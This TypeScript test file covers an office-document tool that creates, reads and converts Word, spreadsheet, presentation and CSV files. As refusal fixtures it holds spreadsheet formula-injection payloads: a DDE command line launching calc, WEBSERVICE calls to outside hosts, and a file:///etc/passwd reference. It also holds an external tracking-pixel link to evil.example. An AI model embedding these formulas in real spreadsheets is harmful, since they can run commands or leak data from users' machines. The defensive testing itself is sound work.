import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { strToU8 } from 'fflate';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Answer, SkillContext } from '../serve';
import { callSkill } from '../test-bed';
import { serve } from './run';
import { answer } from './source/answer';
import { Fault } from './source/fault';
import { createOffice, type Office } from './source/office';
import { readPackage, writePackage } from './source/package';
import { parseMarkdown } from './source/write/markdown';
import { writeDocx } from './source/write/docx';

/** A busy machine may need a minute for each start of LibreOffice. */
vi.setConfig({ testTimeout: 600_000 });

let folder = '';
let workspace = '';
beforeAll(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'office-documents-'));
  workspace = path.join(folder, 'work');
  mkdirSync(workspace);
});
afterAll(() => {
  rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
});

const at = (name: string): string => path.join(workspace, name);

/** A machine without LibreOffice. */
const none: Office = { convert: () => Promise.reject(new Fault('UNSUPPORTED', 'This needs LibreOffice, which was not found on this machine.', 'sudo apt-get install libreoffice-writer')) };

function call(args: Record<string, unknown>, office: Office = none, language: 'en' | 'zh' = 'en'): Promise<Answer> {
  const context = { workspace, language, folder: __dirname, data: path.join(folder, 'data'), environment: {}, progress: () => undefined, notice: () => undefined } satisfies SkillContext;
  return answer(args, context, office);
}

async function result(args: Record<string, unknown>, office?: Office): Promise<Record<string, unknown>> {
  const answered = await call(args, office);
  if (answered.status === 'error') throw new Error(`${answered.message} (${answered.hint ?? ''})`);
  return answered.result as Record<string, unknown>;
}

const markdown = '# Minutes 合计\n\nPresent: **Ann** & *Bo*, see [site](https://example.org/?a=1&b=2) `x<y` snake_case 2*3*4\n\n1. one\n2. two\n   goes on\n\n- a\n  - b\n\n| Who | What |\n|---|---|\n| Bo \\| Al | **Offer** |\n\n> quoted\n\n```\nif (a < b) {\n\tc();\n}\n```\n---\n\n## Next page';
const rows = [['Item', 'Cost', 'Due', 'Code'], ['Tea & "x"', 3.5, '2026-11-30', '00123'], ['书籍', 60, '2026-12-01T09:30', "'=1+1"], ['Total', '=SUM(B2:B3)', true, '=IF(B4>5,"much","few")']];

describe('without LibreOffice', () => {
  it('a Word document is made of Markdown, and read back as such', async () => {
    expect(await result({ action: 'create', target: 'a.docx', content: markdown })).toMatchObject({ file: at('a.docx'), checked: '15 of 15 pieces of text were read back from the file' });
    expect((await result({ action: 'read', file: 'a.docx' }))['text']).toBe(
      '# Minutes 合计\n\nPresent: Ann & Bo, see site x<y snake_case 2*3*4\n\n- one\n- two goes on\n- a\n  - b\n\n| Who | What |\n| --- | --- |\n| Bo \\| Al | Offer |\n\nquoted\n\nif (a < b) {\n\tc();\n}\n\n## Next page',
    );
  });

  it('a workbook has numbers, dates, texts and formulas as such, and says that nobody computed them', async () => {
    const made = await result({ action: 'create', target: 'a.xlsx', sheets: [{ name: 'Budget', rows }, { rows: [{ a: 1, b: 'x' }, { b: '2' }] }] });
    expect(made['warnings']).toEqual([expect.stringContaining('the program that opens it computes them') as string]);
    const formula = (text: string): unknown => ({ formula: text, value: null });
    expect((await result({ action: 'read', file: 'a.xlsx' }))['sheets']).toEqual([
      { name: 'Budget', rows: [rows[0], rows[1], ['书籍', 60, '2026-12-01T09:30:00', "'=1+1"], ['Total', formula('=SUM(B2:B3)'), true, formula('=IF(B4>5,"much","few")')]] },
      { name: 'Sheet2', rows: [['a', 'b'], [1, 'x'], [null, '2']] },
    ]);
  });

  it.each(['=WEBSERVICE("http://x/"&A1)', '=HYPERLINK("http://x","click")', "=cmd|' /C calc'!A0", "=[other.xlsx]S!A1", "='file:///etc/passwd'#$S.A1", '=DDE("a";"b";"c")'])('refuses the formula %s, which reaches outside', async (reaching) => {
    expect(await call({ action: 'create', target: 'b.xlsx', sheets: [{ rows: [[reaching]] }] })).toMatchObject({ status: 'error', code: 'INVALID_PARAM', message: expect.stringContaining('Sheet1!A1') as string });
    expect(existsSync(at('b.xlsx'))).toBe(false);
  });

  it('replaces no file unless told, keeps links, leaves no half files, and makes folders', async () => {
    const said = (args: Record<string, unknown>) => call({ action: 'create', content: 'New', ...args });
    writeFileSync(at('mine.docx'), 'mine');
    symlinkSync(at('mine.docx'), at('link.docx'));
    expect(await said({ target: 'mine.docx' })).toMatchObject({ status: 'error', code: 'CONFLICT', message: expect.stringContaining('there already') as string });
    expect(readFileSync(at('mine.docx'), 'utf8')).toBe('mine');
    expect(await said({ target: 'link.docx', overwrite: true })).toMatchObject({ status: 'ok', files: [at('link.docx')] });
    expect((await result({ action: 'read', file: 'mine.docx' }))['text']).toBe('New');
    writeFileSync(at('.~lock.mine.docx#'), ',Ann');
    expect(await said({ target: 'mine.docx', overwrite: true })).toMatchObject({ code: 'CONFLICT', message: expect.stringContaining('open in LibreOffice') as string });
    rmSync(at('.~lock.mine.docx#'));
    expect(await said({ target: 'new/folder/a.docx' })).toMatchObject({ status: 'ok' });
    expect(await said({ target: 'new' })).toMatchObject({ code: 'UNSUPPORTED' });
    mkdirSync(at('dir.docx'));
    expect(await said({ target: 'dir.docx', overwrite: true })).toMatchObject({ code: 'IS_DIRECTORY' });
    expect(readdirSync(workspace).filter((name) => name.endsWith('.tmp'))).toEqual([]);
  });

  it('says what is missing or wrong, and what to do', async () => {
    writeFileSync(at('damaged.docx'), 'no zip');
    writeFileSync(at('entities.docx'), writePackage(new Map([['word/document.xml', strToU8('<!DOCTYPE x [<!ENTITY a "b">]><w:document>&a;</w:document>')]])));
    const cases: [Record<string, unknown>, string, RegExp][] = [
      [{ action: 'create', target: 'a.pdf', content: 'x' }, 'UNSUPPORTED', /needs LibreOffice/],
      [{ action: 'read', file: 'nowhere.docx' }, 'NOT_FOUND', /no file/],
      [{ action: 'read', file: 'damaged.docx' }, 'ENCODING', /damaged/],
      [{ action: 'read', file: 'entities.docx' }, 'ENCODING', /entities/],
      [{ action: 'read', file: 'a.exe' }, 'UNSUPPORTED', /ending/],
      [{ action: 'read' }, 'INVALID_PARAM', /needs file/],
      [{ action: 'create', target: 'c.docm', content: 'x' }, 'UNSUPPORTED', /not written/],
      [{ action: 'create', target: 'c.docx' }, 'INVALID_PARAM', /needs content/],
      [{ action: 'create', target: 'c.xlsx', sheets: [{ name: 'a/b', rows: [] }] }, 'INVALID_PARAM', /name of a sheet/],
      [{ action: 'create', target: 'c.xlsx', sheets: [{ name: 'a', rows: [] }, { name: 'A', rows: [] }] }, 'INVALID_PARAM', /Two sheets/],
      [{ action: 'convert', file: 'a.docx', target: 'c.xlsx' }, 'UNSUPPORTED', /can't become/],
      [{ action: 'convert', file: 'a.docx', target: 'a.docx', overwrite: true }, 'INVALID_PARAM', /the same/],
      [{ action: 'fill', file: 'a.docx', target: 'c.docx', data: {} }, 'INVALID_PARAM', /no blanks/],
      [{ action: 'burn' }, 'INVALID_PARAM', /action/],
    ];
    for (const [args, code, message] of cases) expect(await call(args), JSON.stringify(args)).toMatchObject({ status: 'error', code, message: expect.stringMatching(message) as string, hint: expect.stringMatching(/\S/) as string });
    expect(existsSync(at('c.docx'))).toBe(false);
  });

  it('tells of macros and of what lies outside', async () => {
    const parts = new Map(writeDocx(parseMarkdown('Hello {{name}}')));
    parts.set('word/vbaProject.bin', strToU8('macro'));
    parts.set('word/_rels/document.xml.rels', strToU8('<Relationships><Relationship Id="r" Type="http://x/image" Target="http://evil.example/pixel.png" TargetMode="External"/><Relationship Id="h" Type="http://x/hyperlink" Target="http://fine.example" TargetMode="External"/></Relationships>'));
    writeFileSync(at('macros.docm'), writePackage(parts));
    const read = await result({ action: 'read', file: 'macros.docm' });
    expect(read).toMatchObject({ text: 'Hello {{name}}', blanks: ['name'], warnings: [expect.stringContaining('macros') as string, expect.stringMatching(/pixel\.png$/) as string] });
  });

  it('an ODF presentation is made, and read back', async () => {
    expect(await result({ action: 'create', target: 'own.odp', content: '# Plan\n\n- one **two**\n\nNotes: hi\n\n---\n\nplain' })).toMatchObject({ checked: '4 of 4 pieces of text were read back from the file' });
    expect((await result({ action: 'read', file: 'own.odp' }))['slides']).toEqual([{ title: 'Plan', lines: ['one two'], notes: ['hi'] }, { title: '', lines: ['plain'], notes: [] }]);
    expect(await call({ action: 'create', target: 'empty.odp', content: '---' })).toMatchObject({ code: 'INVALID_PARAM' });
  });

  it('a CSV is read whatever parts it, and becomes a workbook without a change to its texts', async () => {
    writeFileSync(at('a.csv'), 'a,b\r\n"x, ""y""\nz",00123\r\n=1+1,-2.50\r\n,2026-11-30');
    writeFileSync(at('gbk.csv'), Buffer.from([0xca, 0xe9, 0x3b, 0x31, 0x0a]));
    writeFileSync(at('latin.csv'), Buffer.from('caf\xe9\t1', 'latin1'));
    const rowsIn = async (file: string): Promise<unknown> => ((await result({ action: 'read', file }))['sheets'] as { rows: unknown[][] }[])[0]?.rows;
    const cells = [['a', 'b'], ['x, "y"\nz', '00123'], ["'=1+1", -2.5], [null, '2026-11-30']];
    expect(await rowsIn('a.csv')).toEqual(cells);
    expect(await rowsIn('gbk.csv')).toEqual([['书', 1]]);
    expect(await rowsIn('latin.csv')).toEqual([['café', 1]]);
    expect(await result({ action: 'convert', file: 'a.csv', target: 'from-csv.xlsx' })).toMatchObject({ checked: expect.stringContaining('were read back') as string });
    expect(await rowsIn('from-csv.xlsx')).toEqual(cells);
  });

  it('speaks Chinese', async () => {
    expect(await call({ action: 'create', target: '中文.docx', content: '你好' }, none, 'zh')).toMatchObject({ status: 'ok', text: expect.stringContaining('已生成 中文.docx') as string });
  });
});

it('a LibreOffice that hangs is ended with all that it started, and the answer says so', async () => {
  const programs = path.join(folder, 'programs');
  const pids = path.join(folder, 'pids');
  mkdirSync(programs);
  writeFileSync(path.join(programs, 'soffice'), `#!/bin/sh\nsleep 600 &\necho $$ $! > ${pids}\necho $DESKWRIGHT_TASK > ${pids}.mark\nwait\n`);
  chmodSync(path.join(programs, 'soffice'), 0o755);
  const office = createOffice(path.join(folder, 'hanging'), { PATH: `${programs}${path.delimiter}${process.env['PATH'] ?? ''}`, DESKWRIGHT_TASK: 'mark-1' }, 8_000);
  expect(await call({ action: 'create', target: 'hang.pdf', content: 'x' }, office)).toMatchObject({ status: 'error', code: 'TIMEOUT' });
  const gone = (pid: string): boolean => {
    try {
      return /^State:\s*Z/m.test(readFileSync(`/proc/${pid}/status`, 'utf8'));
    } catch {
      return true;
    }
  };
  await vi.waitFor(() => expect(readFileSync(pids, 'utf8').trim().split(' ').every(gone)).toBe(true), { timeout: 20_000 });
  expect(readFileSync(`${pids}.mark`, 'utf8').trim()).toBe('mark-1');
  expect(existsSync(at('hang.pdf'))).toBe(false);
  expect(readdirSync(path.join(folder, 'hanging')).filter((name) => name.startsWith('work-'))).toEqual([]);
});

describe('with LibreOffice', () => {
  const skill = async (args: Record<string, unknown>): Promise<Record<string, unknown>> => {
    const { answer: answered } = await callSkill(serve, args, { PATH: process.env['PATH'], DESKWRIGHT_WORKSPACE: workspace, DESKWRIGHT_DATA: path.join(folder, 'kept') });
    if (answered.status === 'error') throw new Error(`${answered.message} (${answered.hint ?? ''})`);
    return answered.result as Record<string, unknown>;
  };

  it('formulas have their values, and one that is none is told', async () => {
    const made = await skill({ action: 'create', target: 'values.xlsx', sheets: [{ name: 'Budget', rows: [...rows, ['Wrong', '=NOSUCH(1)', '=C2+1']] }] });
    expect(made['warnings']).toEqual(['A formula came to an error: Budget!B5 =NOSUCH(1): #NAME?']);
    const sheets = (await result({ action: 'read', file: 'values.xlsx' }))['sheets'] as { rows: unknown[][] }[];
    expect(sheets[0]?.rows.slice(3)).toEqual([['Total', { formula: '=SUM(B2:B3)', value: 63.5 }, true, { formula: '=IF(B4>5,"much","few")', value: 'much' }], ['Wrong', { formula: '=NOSUCH(1)', value: '#NAME?' }, { formula: '=C2+1', value: 46357 }]]);
  });

  it('an ODF spreadsheet holds the same, and one sheet of it becomes a CSV', async () => {
    const sheets = [{ name: 'One', rows }, { name: 'Two', rows: [['x', '=One!B4*2'], ['two\nlines', true], ['00123', '']] }];
    expect(await skill({ action: 'create', target: 'two.ods', sheets })).toMatchObject({ checked: 'all 21 cells were read back from the file as asked' });
    const two = ((await result({ action: 'read', file: 'two.ods', sheet: 'Two' }))['sheets'] as { rows: unknown[][] }[])[0];
    expect(two?.rows).toEqual([['x', { formula: '=One!B4*2', value: 127 }], ['two\nlines', true], ['00123']]);
    await skill({ action: 'convert', file: 'two.ods', target: 'two.csv', sheet: 'Two' });
    expect(readFileSync(at('two.csv'), 'utf8').replace(/\r/g, '')).toBe('x,127\n"two\nlines",TRUE\n00123,\n');
  });

  it('a presentation has its slides, points, tables and notes', async () => {
    const content = '# Plan\n\n- first **bold**\n  - deeper 书\n- second\n\nNotes: say hello\n\n# Figures\n\n| A | B |\n|---|---|\n| 1 | 2 |\n';
    expect(await skill({ action: 'create', target: 'plan.pptx', content })).toMatchObject({ checked: '10 of 10 pieces of text were read back from the file' });
    expect((await result({ action: 'read', file: 'plan.pptx' }))['slides']).toEqual([
      { title: 'Plan', lines: ['first bold', 'deeper 书', 'second'], notes: ['say hello'] },
      { title: 'Figures', lines: ['| A | B |', '| --- | --- |', '| 1 | 2 |'], notes: [] },
    ]);
  });

  it('a document becomes a PDF that is read back, nothing that it refers to is fetched, and a CSV’s formulas stay texts', async () => {
    let fetched = 0;
    const server = createServer((_, response) => {
      fetched += 1;
      response.end();
    });
    await new Promise<void>((resolve) => {
      server.listen(0, '127.0.0.1', resolve);
    });
    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const parts = new Map(readPackage(writePackage(writeDocx(parseMarkdown('# Title\n\nfinal 书 {{name}}')))));
      const picture = `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdX"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
      const edit = (part: string, before: string, added: string): void => void parts.set(part, strToU8(Buffer.from(parts.get(part) ?? []).toString().replace(before, added + before)));
      edit('word/document.xml', '<w:sectPr>', picture);
      edit('word/_rels/document.xml.rels', '</Relationships>', `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${address}/pixel.png" TargetMode="External"/>`);
      writeFileSync(at('linked.docx'), writePackage(parts));
      const filled = await skill({ action: 'fill', file: 'linked.docx', target: 'linked.pdf', data: { name: 'Zoë & {{Co}}' } });
      expect(filled).toMatchObject({ filled: ['name'], checked: 'no blank is left, and every line was read back from the file' });
      expect((await result({ action: 'read', file: 'linked.pdf' }))['pages']).toEqual([expect.stringMatching(/^Title\s+final 书 Zoë & \{\{Co\}\}$/)]);

      writeFileSync(at('list.csv'), `a;b;c;d\n1,5;00123;"=WEBSERVICE(""${address}/x"")";3.5\n`);
      expect(await skill({ action: 'convert', file: 'list.csv', target: 'list.ods' })).toMatchObject({ file: at('list.ods') });
      const sheets = (await result({ action: 'read', file: 'list.ods' }))['sheets'] as { rows: unknown[][] }[];
      expect(sheets[0]?.rows).toEqual([['a', 'b', 'c', 'd'], ['1,5', '00123', `'=WEBSERVICE("${address}/x")`, 3.5]]);
      expect(fetched).toBe(0);
    } finally {
      server.close();
    }
  });
});
